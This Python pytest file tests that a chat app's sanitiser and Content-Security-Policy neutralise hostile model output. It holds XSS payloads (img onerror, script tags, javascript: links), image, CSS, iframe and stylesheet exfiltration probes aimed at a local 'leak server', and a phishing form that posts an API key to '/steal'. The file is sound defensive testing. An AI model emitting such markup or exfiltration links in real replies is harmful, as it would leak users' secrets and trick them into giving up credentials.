"""Hostile model output in a real browser: a reply that tries script execution and remote fetches (images, CSS,
frames) must neither run script nor reach the leak server. Screenshot and a per-probe report go to test-artifacts/.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.appserver import AppServer
from tests.browser_fixtures import (
    ARTIFACTS,
    require_chromium,
    screenshot,
    set_columns,
    set_model,
    set_prompt,
    wait_meta,
)
from tests.fakes.openai_server import OpenAIServer
from tests.fakes.server import Behaviour


class LeakServer:
    """A tiny HTTP server on 127.0.0.1 that records every request: nothing the model writes may reach it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def do_POST(self):
                hits.append(("POST", self.path))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def hostile_reply(leak: str) -> tuple[str, dict[str, str]]:
    """A reply trying script execution and remote fetches; returns it and {probe name: URL path}."""
    paths = {
        "markdown image": "/leak.png?secret=1",
        "markdown image with title": "/leak-title.png",
        "reference-style image": "/leak-ref.png",
        "html img": "/leak-img.png",
        "IMG upper case": "/leak-upper.png",
        "img with newline": "/leak-newline.png",
        "img/src": "/leak-slash.png",
        "css background": "/leak-css.png",
        "input type=image": "/leak-input.png",
        "table background": "/leak-table.png",
        "svg image": "/leak-svg.png",
        "iframe": "/leak-iframe.html",
        "stylesheet link": "/leak.css",
    }
    u = {name: leak + path for name, path in paths.items()}
    reply = (
        'Here you go. <img src=x onerror="window.__pwned=1"> and <script>window.__pwned=2</script> '
        f'then ![x]({u["markdown image"]}) and <img src="{u["html img"]}" alt="a picture"> '
        f'![y]({u["markdown image with title"]} "a title") ![z][ref] <IMG SRC="{u["IMG upper case"]}"> '
        f'<img\nsrc="{u["img with newline"]}"> <img/src="{u["img/src"]}"> '
        f'<div style="background-image:url({u["css background"]})">styled</div> '
        f'<input type="image" src="{u["input type=image"]}"> '
        f'<table background="{u["table background"]}"><tr><td>cell</td></tr></table> '
        f'<svg><image href="{u["svg image"]}"/></svg> <iframe src="{u["iframe"]}"></iframe> '
        f'<link rel="stylesheet" href="{u["stylesheet link"]}"> <a href="javascript:window.__pwned=3">click</a> end.'
        f"\n\n[ref]: {u['reference-style image']}\n"
    )
    return reply, paths


def phishing_reply(leak: str) -> str:
    """A reply drawing a form that posts whatever the reader types to the leak server, and controls that would too."""
    return (
        f'Your session expired. <form action="{leak}/steal" method="post"><input name="key" placeholder="API key">'
        '<select name="plan"><option>pro</option></select><textarea name="note">notes</textarea>'
        "<button>Verify key</button></form> "
        f'<button formaction="{leak}/steal-2" formmethod="post">Confirm</button> '
        "<FO<form>RM action=/x><but<button>ton>Nested</button></FORM> Thank you."
    )


@pytest.fixture(scope="module")
def leak():
    server = LeakServer()
    yield server
    server.close()


@pytest.fixture(scope="module")
def fake(leak):
    require_chromium()  # no servers to start when the browser tests are skipped
    reply, _ = hostile_reply(leak.url)
    per_model = {"evil": Behaviour(reply=reply, tokens_per_s=40), "phish": Behaviour(reply=phishing_reply(leak.url))}
    with OpenAIServer(Behaviour(), per_model=per_model) as srv:
        yield srv


@pytest.fixture(scope="module")
def app(fake):
    with AppServer({"OPENAI_API_KEY": "sk-test-SECRET-1234567890", "OPENAI_BASE_URL": fake.url + "/v1"}) as running:
        yield running


# --- hostile model output -----------------------------------------------------------------------------------

CSP_RECORDER = """window.__csp = [];
document.addEventListener('securitypolicyviolation',
                          e => window.__csp.push({uri: e.blockedURI, directive: e.violatedDirective}));"""


def test_model_output_cannot_run_script_or_fetch_remote_media(new_page, app, leak):
    requests, failed = [], []

    def listen(page):
        page.on("request", lambda r: requests.append(r.url) if f":{leak.port}" in r.url else None)
        page.on("requestfailed", lambda r: failed.append(r.url) if f":{leak.port}" in r.url else None)

    page = new_page(app.url, init_script=CSP_RECORDER, before_goto=listen)
    set_columns(page, 1)
    set_model(page, 0, "openai:evil")
    set_prompt(page, "Show me an image.")
    page.locator("#prompt textarea").press("Enter")  # Enter in the prompt box runs, like the Run button
    wait_meta(page, 0, "done")
    page.wait_for_timeout(1500)  # give any late fetch or handler time to fire
    screenshot(page, "browser_hostile_output")

    reply = page.locator("#reply-0 span.md")
    html = reply.inner_html()
    _, paths = hostile_reply(leak.url)
    layers = {}
    violations = page.evaluate("() => window.__csp")
    blocked = {v["uri"] for v in violations}
    for name, path in paths.items():
        url = leak.url + path
        in_dom = url in html or url.replace("&", "&amp;") in html
        layers[name] = (
            "stripped before rendering (app sanitiser, Markdown, DOMPurify)"
            if not in_dom
            else "blocked by the CSP"
            if url in blocked
            else "left in the page, not blocked"
        )
    (ARTIFACTS / "browser_hostile_output.json").write_text(
        json.dumps(
            {
                "layers": layers,
                "csp_violations": violations,
                "page_requests": requests,
                "failed_requests": failed,
                "leak_server_hits": leak.hits,
                "reply_html": html,
            },
            indent=2,
        )
    )

    assert page.evaluate("() => typeof window.__pwned") == "undefined"
    assert leak.hits == [], f"the leak server was reached: {leak.hits}"
    assert not [u for u in requests if "/leak.png" in u], "the Markdown image was requested"
    # Anything the browser attempted must have been refused by the Content-Security-Policy.
    assert set(requests) <= blocked, (requests, violations)
    assert all(v["directive"].startswith(("img-src", "media-src", "object-src", "default-src")) for v in violations)
    # The mandated probes never reach the DOM in a live form.
    assert "[image removed: x]" in reply.inner_text()
    assert reply.locator("script").count() == 0 and page.locator("[onerror]").count() == 0
    assert reply.locator(f"img[src*='{leak.port}'], iframe, object, embed").count() == 0
    assert layers["markdown image"].startswith("stripped") and layers["html img"].startswith("stripped")
    assert "left in the page" not in json.dumps(layers), layers
    reply.get_by_text("click").click()  # a javascript: link must not run either
    page.wait_for_timeout(300)
    assert page.evaluate("() => typeof window.__pwned") == "undefined"


def test_a_reply_cannot_draw_a_working_form(new_page, app, leak):
    assert "form-action 'self'" in httpx.get(app.url, timeout=30).headers["content-security-policy"]
    page = new_page(app.url, init_script=CSP_RECORDER)
    set_columns(page, 1)
    set_model(page, 0, "openai:phish")
    set_prompt(page, "Check my account.")
    page.locator("#prompt textarea").press("Enter")
    wait_meta(page, 0, "done")
    reply = page.locator("#reply-0 span.md")
    assert "Verify key" in reply.inner_text() and "Thank you." in reply.inner_text()  # the words stay, as text
    assert reply.locator("form, button, input, select, textarea, [formaction]").count() == 0, reply.inner_html()
    assert leak.url not in reply.inner_html()
    # Second guard: a form that got into the page anyway may not post anywhere but the app itself.
    page.evaluate(
        """(url) => { const f = document.createElement('form'); f.method = 'post'; f.action = url;
                      document.querySelector('#reply-0').appendChild(f); f.submit(); }""",
        leak.url + "/steal-3",
    )
    page.wait_for_function("() => window.__csp.some(v => v.directive.startsWith('form-action'))", timeout=30_000)
    page.wait_for_timeout(500)
    assert leak.hits == [], leak.hits
